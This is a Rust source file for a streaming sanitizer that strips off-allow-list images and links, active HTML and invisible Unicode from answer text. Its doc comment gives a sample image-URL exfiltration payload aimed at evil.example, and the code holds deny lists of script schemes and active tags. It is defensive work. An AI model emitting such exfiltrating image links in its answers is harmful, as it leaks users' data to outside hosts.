//! Takes out of an answer's text what acts when it is shown: images and links that lead off the allow-list, active HTML, and
//! characters that nobody sees.
//!
//! ```text
//! read it: ![x](https://evil.example/?q=TIC-101) [here](//evil.example)
//! read it: [image removed: evil example] [here] (link removed: evil example)
//! ```
//!
//! Each place of the text is decided by what follows it, and waits until that is there: so a text cut anywhere comes out as
//! the whole does. What is held is bounded; at the bound it is taken for the worst.

use super::target::{Target, astray};
use super::units::{Unit, Units, may_begin, next};
use super::{Cares, Found, Seen};
use plant::{Form, Wildcard};
use std::borrow::Cow;

/// Longest text of an image in characters; behind a longer one, the image is taken for a link.
const ALT: usize = 512;
/// Longest address or tag that is looked at, in characters. A longer one leads nowhere good.
const LONG: usize = 2048;

/// What addresses begin with.
const OPENERS: [&str; 7] = ["http://", "https://", "ftp://", "www.", "file://", "javascript:", "vbscript:"];

/// What is done with the beginning of a text.
enum Step {
    /// So many bytes pass.
    Pass(usize),
    /// So many bytes are replaced.
    Replace(usize, String, Found),
    /// So many bytes, that nobody sees, go.
    Drop(usize),
    /// More must come first.
    Wait,
}

/// One channel's text so far.
#[derive(Default)]
pub(super) struct Markup {
    held: String,
    /// The last character that passed.
    before: Option<char>,
    /// Whether the rest of an address is being left out.
    swallows: bool,
    /// Whether the text has letters that run right to left, which need marks of direction.
    leftward: bool,
}

impl Markup {
    pub(super) fn push(&mut self, text: &str, end: bool, form: Form, cares: &Cares, seen: &mut Seen) -> String {
        let held = std::mem::take(&mut self.held);
        let input = if held.is_empty() { Cow::Borrowed(text) } else { Cow::Owned(held + text) };
        let mut out = String::with_capacity(input.len());
        let mut rest = input.as_ref();
        while !rest.is_empty() {
            let dull = if self.swallows { 0 } else { dull(rest, self.before) };
            let length = match dull {
                0 => match self.step(rest, end, form, cares) {
                    Step::Wait => {
                        rest.clone_into(&mut self.held);
                        return out;
                    }
                    Step::Pass(length) => length,
                    Step::Drop(length) => {
                        rest = rest.get(length..).unwrap_or_default();
                        seen.count(Found::Hidden);
                        continue;
                    }
                    Step::Replace(length, with, found) => {
                        out.push_str(&with);
                        rest = rest.get(length..).unwrap_or_default();
                        self.before = with.chars().next_back().or(self.before);
                        if found != Found::Nothing {
                            seen.count(found);
                        }
                        continue;
                    }
                },
                dull => dull,
            };
            let (passed, after) = rest.split_at_checked(length).unwrap_or((rest, ""));
            self.before = passed.chars().next_back().or(self.before);
            out.push_str(passed);
            rest = after;
        }
        out
    }

    fn step(&mut self, rest: &str, end: bool, form: Form, cares: &Cares) -> Step {
        let Some(unit) = next(rest, 0, form, end) else { return if end { Step::Pass(rest.len()) } else { Step::Wait } };
        if self.swallows {
            let ends = unit.edge || unit.character.is_whitespace() || "\"'<>)`|".contains(unit.character);
            self.swallows = !ends;
            return if ends { Step::Pass(0) } else { Step::Replace(unit.end, String::new(), Found::Nothing) };
        }
        let read = |most| Units::read(rest, form, most, end);
        // Most signs are told by what follows them; few need more of the text.
        let behind = next(rest, unit.end, form, end).map(|unit| unit.character);
        let step = match unit.character {
            _ if unit.edge => return Step::Pass(unit.end),
            '!' if cares.images && behind.is_none_or(|behind| behind == '[') => image(&read(LONG), &cares.hosts),
            ']' if (cares.links || cares.images) && behind.is_none_or(|behind| matches!(behind, '(' | ':')) => {
                destination(&read(LONG), cares)
            }
            '<' if (cares.markup || cares.links || cares.images)
                && behind.is_none_or(|behind| behind.is_ascii_alphabetic()) =>
            {
                html(&read(LONG), cares)
            }
            'h' | 'H' | 'f' | 'F' | 'w' | 'W' | 'j' | 'J' | 'v' | 'V' if cares.addresses && self.at_word() => {
                let opener = OPENERS.iter().find(|opener| may_begin(rest, form, end, opener));
                opener.map_or(Step::Pass(0), |opener| self.address(&read(LONG), opener, &cares.hosts))
            }
            hidden if cares.markup && !hidden.is_ascii() => self.hidden(unit, read),
            _ => Step::Pass(unit.end),
        };
        // A sign that is nothing special passes, escape and all.
        match step {
            Step::Pass(0) => Step::Pass(unit.end),
            other => other,
        }
    }

    fn at_word(&self) -> bool {
        self.before.is_none_or(|before| !before.is_alphanumeric())
    }

    /// A bare address, of which viewers make a link.
    fn address(&mut self, units: &Units, opener: &str, hosts: &[Wildcard]) -> Step {
        if units.len() < opener.len() {
            return if units.whole { Step::Pass(0) } else { Step::Wait };
        }
        let ends = |own: char| own.is_whitespace() || "/?#\"'<>)`|".contains(own);
        let stop = units.units.iter().skip(opener.len()).position(|unit| unit.edge || ends(unit.character));
        let Some(stop) = stop.map(|stop| stop + opener.len()).or(units.whole.then_some(units.len())) else {
            return if units.len() < LONG {
                Step::Wait
            } else {
                self.leave_out(units, LONG, &Target::Host(String::new()))
            };
        };
        let address = units.text(0, stop);
        let address = if opener.starts_with("www") { format!("//{address}") } else { address };
        match astray(&address, hosts) {
            None => Step::Pass(units.end(stop)),
            Some(target) => self.leave_out(units, stop, &target),
        }
    }

    fn leave_out(&mut self, units: &Units, stop: usize, target: &Target) -> Step {
        self.swallows = true;
        Step::Replace(units.end(stop), format!("[link removed: {}]", target.name()), Found::Link)
    }

    /// A character beyond ASCII: most are letters.
    fn hidden(&mut self, unit: Unit, read: impl Fn(usize) -> Units) -> Step {
        /// How many characters tell what one of them is for.
        const AHEAD: usize = 72;
        let own = unit.character;
        let drop = Step::Drop(unit.end);
        self.leftward |= matches!(own, '\u{590}'..='\u{8FF}' | '\u{FB1D}'..='\u{FDFF}' | '\u{FE70}'..='\u{FEFC}');
        match own {
            '\u{E0000}'..='\u{E007F}' => self.tags(&read(AHEAD)),
            '\u{FE00}'..='\u{FE0F}' | '\u{E0100}'..='\u{E01EF}' => {
                let takes = self.before.is_some_and(|base| {
                    !base.is_ascii_alphabetic()
                        && !base.is_whitespace()
                        && !is_selector(base)
                        && (own <= '\u{FFFF}' || is_ideograph(base))
                });
                if takes { Step::Pass(unit.end) } else { drop }
            }
            '\u{202D}' | '\u{202E}' => drop,
            '\u{202A}'..='\u{202C}' | '\u{2066}'..='\u{2069}' if !self.leftward => drop,
            _ if is_zero_width(own) => {
                let units = read(AHEAD);
                let next = units.units.iter().position(|unit| !is_zero_width(unit.character));
                let behind = match next {
                    None if !units.whole && units.len() < AHEAD => return Step::Wait,
                    None => None,
                    Some(at) => units.at(at),
                };
                let script = |side: Option<char>| side.is_some_and(|side| !is_latin(side));
                let joins = script(self.before) && (script(behind) || behind.is_none_or(char::is_whitespace));
                if joins && !self.before.is_some_and(is_zero_width) { Step::Pass(unit.end) } else { drop }
            }
            _ => Step::Pass(unit.end),
        }
    }

    /// Tag characters, of which a flag has a few.
    fn tags(&mut self, units: &Units) -> Step {
        const FLAG: usize = 8;
        let is_tag = |own: char| matches!(own, '\u{E0000}'..='\u{E007F}');
        let end = units.units.iter().take(FLAG + 1).position(|unit| !is_tag(unit.character));
        let first = units.end(1);
        if self.before != Some('\u{1F3F4}') {
            return Step::Drop(first);
        }
        let Some(end) = end.or((units.whole || units.len() > FLAG).then_some(units.len().min(FLAG + 1))) else {
            return Step::Wait;
        };
        if end <= FLAG && units.at(end.saturating_sub(1)) == Some('\u{E007F}') {
            return Step::Pass(units.end(end));
        }
        self.before = units.at(0);
        Step::Drop(first)
    }
}

/// Whether nothing in a whole text is any of what is looked at here, or the beginning of it.
pub(super) fn is_dull(text: &str) -> bool {
    let bytes = text.as_bytes();
    let opens = |at: usize| {
        let rest = bytes.get(at..).unwrap_or_default();
        let in_word = at.checked_sub(1).and_then(|last| bytes.get(last)).is_some_and(u8::is_ascii_alphanumeric);
        if in_word {
            return false;
        }
        OPENERS
            .iter()
            .any(|opener| rest.get(..opener.len()).is_some_and(|own| own.eq_ignore_ascii_case(opener.as_bytes())))
    };
    bytes.iter().enumerate().all(|(at, byte)| {
        let behind = bytes.get(at + 1);
        match telling(*byte) {
            Telling::No => true,
            Telling::AtWord => !opens(at),
            Telling::Yes => match byte {
                b'!' => behind != Some(&b'['),
                b']' => !matches!(behind, Some(b'(' | b':')),
                b'<' => !behind.is_some_and(u8::is_ascii_alphabetic),
                // Letters of Latin-1.
                0xC3 => true,
                _ => false,
            },
        }
    })
}

/// How many bytes at the beginning are nothing that is looked at.
fn dull(rest: &str, before: Option<char>) -> usize {
    let bytes = rest.as_bytes();
    let in_word = |at: usize| match at.checked_sub(1).and_then(|last| bytes.get(last)) {
        Some(last) => last.is_ascii_alphanumeric() || *last >= 0x80,
        None => before.is_some_and(char::is_alphanumeric),
    };
    let telling = |(at, byte): (usize, &u8)| match telling(*byte) {
        Telling::No => false,
        Telling::AtWord => !in_word(at),
        Telling::Yes => true,
    };
    bytes.iter().enumerate().position(telling).unwrap_or(rest.len())
}

/// Whether something may begin with a byte that is looked at.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Telling {
    No,
    /// Only where a word begins.
    AtWord,
    Yes,
}

fn telling(byte: u8) -> Telling {
    const TABLE: [Telling; 256] = {
        let mut table = [Telling::No; 256];
        let mut byte = 0;
        while byte < 256 {
            #[expect(clippy::indexing_slicing, reason = "byte is below the table's 256")]
            {
                table[byte] = match byte as u8 {
                    b'!' | b']' | b'<' | b'\\' | b'"' | 0xC2.. => Telling::Yes,
                    b'h' | b'H' | b'f' | b'F' | b'w' | b'W' | b'j' | b'J' | b'v' | b'V' => Telling::AtWord,
                    _ => Telling::No,
                };
            }
            byte += 1;
        }
        table
    };
    #[expect(clippy::indexing_slicing, reason = "a byte is below the table's 256")]
    TABLE[usize::from(byte)]
}

/// `![text](address "title")`
fn image(units: &Units, hosts: &[Wildcard]) -> Step {
    match units.at(1) {
        None if units.whole => return Step::Pass(0),
        None => return Step::Wait,
        Some('[') => {}
        Some(_) => return Step::Pass(0),
    }
    let mut depth = 0_usize;
    let mut close = None;
    for (at, unit) in units.units.iter().enumerate().skip(1).take(ALT) {
        match unit.character {
            '[' => depth += 1,
            ']' => depth = depth.saturating_sub(1),
            _ => {}
        }
        if depth == 0 {
            close = Some(at);
            break;
        }
    }
    let Some(close) = close else {
        // Too long to be held: a link then, which is judged where its address stands.
        let link = || Step::Replace(units.end(1), String::new(), Found::Image);
        return if units.len() > ALT {
            link()
        } else if units.whole {
            Step::Pass(0)
        } else {
            Step::Wait
        };
    };
    match units.at(close + 1) {
        None if units.whole => Step::Pass(0),
        None => Step::Wait,
        Some('(') => match place(units, close + 2) {
            Place::More => Step::Wait,
            Place::Whole { text, end } => match astray(&text, hosts) {
                // What stands in its text may be more than text, if this is no image after all.
                None => Step::Pass(units.end(2)),
                Some(target) => match title(units, end) {
                    None => Step::Wait,
                    Some(end) => {
                        Step::Replace(units.end(end), format!("[image removed: {}]", target.name()), Found::Image)
                    }
                },
            },
        },
        // By a reference: its definition is read where it stands.
        Some(_) => Step::Pass(0),
    }
}

/// `](address` and `]: address`
fn destination(units: &Units, cares: &Cares) -> Step {
    let sign = match units.at(1) {
        None if units.whole => return Step::Pass(0),
        None => return Step::Wait,
        // What is defined here may be an image's.
        Some(':') => ':',
        Some('(') if cares.links => '(',
        Some(_) => return Step::Pass(0),
    };
    match place(units, 2) {
        Place::More => Step::Wait,
        Place::Whole { text, end } => match astray(&text, &cares.hosts) {
            None => Step::Pass(units.end(2)),
            // Whether the parenthesis closes is seen behind the address.
            Some(_) if sign == '(' && units.at(end).is_none() && !units.whole && units.len() < LONG => Step::Wait,
            Some(target) => {
                let open = if sign == '(' { "] (link removed: " } else { "]: (link removed: " };
                let close = if sign == '(' && units.at(end).is_some() { "" } else { ")" };
                Step::Replace(units.end(end), format!("{open}{}{close}", target.name()), Found::Link)
            }
        },
    }
}

/// The address of a link.
enum Place {
    More,
    Whole {
        text: String,
        /// The unit behind it.
        end: usize,
    },
}

/// The address that begins at or after a unit (CommonMark 0.31, section 6.3): in angle brackets, or to the next blank or the
/// parenthesis that closes it.
fn place(units: &Units, from: usize) -> Place {
    let blank = |unit: &Unit| unit.character.is_whitespace();
    let start = units.units.iter().skip(from).position(|unit| !blank(unit)).map(|at| from + at);
    let Some(start) = start else {
        return if units.whole || units.len() >= LONG {
            Place::Whole { text: String::new(), end: units.len() }
        } else {
            Place::More
        };
    };
    let angle = units.at(start) == Some('<');
    let mut depth = 0_usize;
    for (at, unit) in units.units.iter().enumerate().skip(start + usize::from(angle)) {
        let ends = match unit.character {
            _ if unit.edge => true,
            '>' | '\n' if angle => true,
            _ if angle => false,
            '(' => {
                depth += 1;
                false
            }
            ')' if depth == 0 => true,
            ')' => {
                depth -= 1;
                false
            }
            own => own.is_whitespace(),
        };
        if ends {
            let text = units.text(start + usize::from(angle), at);
            return Place::Whole { text, end: at + usize::from(angle && unit.character == '>') };
        }
    }
    match units.whole {
        true => Place::Whole { text: units.text(start + usize::from(angle), units.len()), end: units.len() },
        false if units.len() < LONG => Place::More,
        // Longer than anything honest: it leads astray, whatever it says.
        false => Place::Whole { text: "data:".to_owned(), end: units.len() },
    }
}

/// The unit behind the title and the parenthesis of a link whose address ends before `from`; `None` if more must come.
fn title(units: &Units, from: usize) -> Option<usize> {
    const TITLE: usize = 256;
    for (at, unit) in units.units.iter().enumerate().skip(from).take(TITLE) {
        match unit.character {
            _ if unit.edge => return Some(at),
            ')' => return Some(at + 1),
            '\n' => return Some(from),
            _ => {}
        }
    }
    (units.whole || units.len() >= LONG || units.len() - from >= TITLE).then_some(from)
}

/// A tag of HTML, or an address in angle brackets.
fn html(units: &Units, cares: &Cares) -> Step {
    match units.at(1) {
        None if units.whole => return Step::Pass(0),
        None => return Step::Wait,
        Some(first) if first.is_ascii_alphabetic() => {}
        Some(_) => return Step::Pass(0),
    }
    let mut quote = None;
    let mut value = false;
    let mut close = None;
    for (at, unit) in units.units.iter().enumerate().skip(1) {
        match (quote, unit.character) {
            _ if unit.edge => close = Some((at, false)),
            (None, '>') => close = Some((at, true)),
            (None, '<') => close = Some((at, false)),
            (None, own @ ('"' | '\'')) if value => quote = Some(own),
            (Some(open), own) if open == own => quote = None,
            _ => {}
        }
        value = unit.character == '=' || value && unit.character.is_whitespace();
        if close.is_some() {
            break;
        }
    }
    let (end, closed) = match close {
        Some(close) => close,
        None if units.whole || units.len() >= LONG => (units.len(), false),
        None => return Step::Wait,
    };
    let tag = units.text(1, end);
    let Some(harm) = harm(&tag, cares) else {
        // One that is not closed in good time is no tag any more once something stands behind its bracket.
        let cut = !closed && close.is_none() && tag.contains('=');
        return if cut { Step::Replace(units.end(1), "< ".to_owned(), Found::Active) } else { Step::Pass(0) };
    };
    let with = format!("[{} removed: {}]", harm.what.noun(), harm.name);
    Step::Replace(units.end(end + usize::from(closed)), with, harm.what)
}

/// What a tag does that it must not.
struct Harm {
    what: Found,
    /// A host, a scheme, or a tag's name.
    name: String,
}

/// Elements that act by being there.
const ACTIVE: [&str; 21] = [
    "script", "iframe", "object", "embed", "applet", "form", "base", "meta", "link", "style", "frame", "frameset",
    "portal", "svg", "math", "template", "button", "input", "textarea", "noscript", "animate",
];

/// Attributes that lead somewhere.
const ADDRESSES: [&str; 14] = [
    "src",
    "href",
    "srcset",
    "action",
    "formaction",
    "poster",
    "background",
    "data",
    "xlink:href",
    "ping",
    "cite",
    "longdesc",
    "imagesrcset",
    "lowsrc",
];

fn harm(tag: &str, cares: &Cares) -> Option<Harm> {
    let name: String = tag.chars().take_while(|own| !own.is_whitespace() && *own != '/').take(32).collect();
    let name = name.to_ascii_lowercase();
    if is_autolink(tag) {
        let target = astray(tag, &cares.hosts).filter(|_| cares.links);
        return target.map(|target| Harm { what: Found::Link, name: target.name() });
    }
    let image = ["img", "picture", "source", "video", "audio", "track", "image"].contains(&name.as_str());
    let (what, cared) = if image { (Found::Image, cares.images) } else { (Found::Link, cares.links) };
    let active = |name: &str| Harm { what: Found::Active, name: name.to_owned() };
    for (attribute, value) in attributes(tag) {
        let handler = attribute.starts_with("on") || attribute == "srcdoc";
        if cares.markup && handler {
            return Some(active("handler"));
        }
        let told = if attribute == "srcset" || attribute == "imagesrcset" {
            value.split(',').find_map(|one| astray(one.split_whitespace().next()?, &cares.hosts))
        } else if ADDRESSES.contains(&attribute.as_str()) {
            astray(&value, &cares.hosts)
        } else if attribute == "style" {
            styled(&value, &cares.hosts)
        } else {
            None
        };
        if let Some(target) = told {
            let script = matches!(&target, Target::Scheme(scheme) if scheme != "data" && scheme != "mailto");
            if cared || script && cares.markup {
                return Some(Harm { what, name: target.name() });
            }
        }
    }
    (cares.markup && ACTIVE.contains(&name.as_str())).then(|| active(&name))
}

/// `<https://...>`. Of schemes that are no web's, those that a viewer makes a link of: `<xs:element>` is an element.
fn is_autolink(tag: &str) -> bool {
    const SCHEMES: [&str; 9] = ["javascript", "vbscript", "data", "mailto", "file", "tel", "sms", "blob", "about"];
    let Some((scheme, rest)) = tag.split_once(':') else { return false };
    let plain = scheme.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.'));
    let whole = plain && !tag.contains(char::is_whitespace);
    whole && (rest.starts_with("//") || SCHEMES.iter().any(|known| scheme.eq_ignore_ascii_case(known)))
}

/// Where a style fetches something from.
fn styled(style: &str, hosts: &[Wildcard]) -> Option<Target> {
    let plain: String = style.to_ascii_lowercase().replace('\\', "");
    let places = plain.split("url(").skip(1);
    let mut inside = places.map(|rest| rest.split(')').next().unwrap_or_default().trim_matches([' ', '"', '\'']));
    inside.find_map(|address| astray(address, hosts))
}

/// The attributes of a tag: names in lower case, values without quotes.
fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = tag.trim_start_matches(|own: char| !own.is_whitespace() && own != '/');
    while let Some(start) = rest.find(|own: char| !own.is_whitespace() && own != '/') {
        rest = rest.get(start..).unwrap_or_default();
        let length =
            rest.find(|own: char| own.is_whitespace() || matches!(own, '=' | '/')).unwrap_or(rest.len()).max(1);
        let (name, after) = rest.split_at(rest.ceil_char_boundary(length));
        let behind = after.trim_start();
        let Some(value) = behind.strip_prefix('=') else {
            found.push((name.to_ascii_lowercase(), String::new()));
            rest = after;
            continue;
        };
        let value = value.trim_start();
        let quote = value.chars().next().filter(|first| matches!(first, '"' | '\''));
        let (value, after) = match quote {
            Some(quote) => {
                value.get(1..).unwrap_or_default().split_once(quote).unwrap_or((value.get(1..).unwrap_or_default(), ""))
            }
            None => value.split_at(value.find(char::is_whitespace).unwrap_or(value.len())),
        };
        found.push((name.to_ascii_lowercase(), value.to_owned()));
        rest = after;
    }
    found
}

fn is_zero_width(own: char) -> bool {
    matches!(own, '\u{AD}' | '\u{34F}' | '\u{180E}' | '\u{200B}'..='\u{200D}' | '\u{2060}'..='\u{2064}' | '\u{206A}'..='\u{206F}'
        | '\u{FEFF}' | '\u{3164}' | '\u{FFA0}' | '\u{115F}' | '\u{1160}')
}

fn is_selector(own: char) -> bool {
    matches!(own, '\u{FE00}'..='\u{FE0F}' | '\u{E0100}'..='\u{E01EF}')
}

fn is_ideograph(own: char) -> bool {
    matches!(own, '\u{3400}'..='\u{9FFF}' | '\u{F900}'..='\u{FAFF}' | '\u{20000}'..='\u{3FFFF}')
}

fn is_latin(own: char) -> bool {
    own.is_ascii() || matches!(own, '\u{C0}'..='\u{24F}')
}
